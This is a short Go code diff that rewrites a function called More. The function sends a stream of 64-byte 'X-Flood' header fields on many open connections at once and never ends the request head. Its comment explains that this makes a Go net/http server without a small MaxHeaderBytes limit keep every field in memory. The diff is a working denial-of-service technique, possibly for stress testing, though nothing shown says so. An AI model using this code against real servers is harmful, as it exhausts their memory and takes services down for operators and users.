@@ -61,10 +61,14 @@ func Heads(addr, ip string, n, start int, tc *tls.Config) (conns []net.Conn, fai
 	return conns, failed
 }
 
-// More writes n more bytes of the same header field on each open
-// connection at once, ignoring the errors of those the server closes.
+// More writes about n more bytes of head on each open connection at once,
+// as header fields of 64 bytes each (a net/http server without a small
+// MaxHeaderBytes keeps each one it reads, in its map of the request's
+// fields), never the blank line that would end the head. It ignores the
+// errors of the connections the server closes.
 func More(conns []net.Conn, n int) {
-	more := []byte(strings.Repeat("a", n))
+	const field = "\r\nX-Flood: " + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" // 64 bytes
+	more := []byte(strings.Repeat(field, max(n/len(field), 1)))
 	var wg sync.WaitGroup
 	for _, c := range conns {
 		if c == nil {
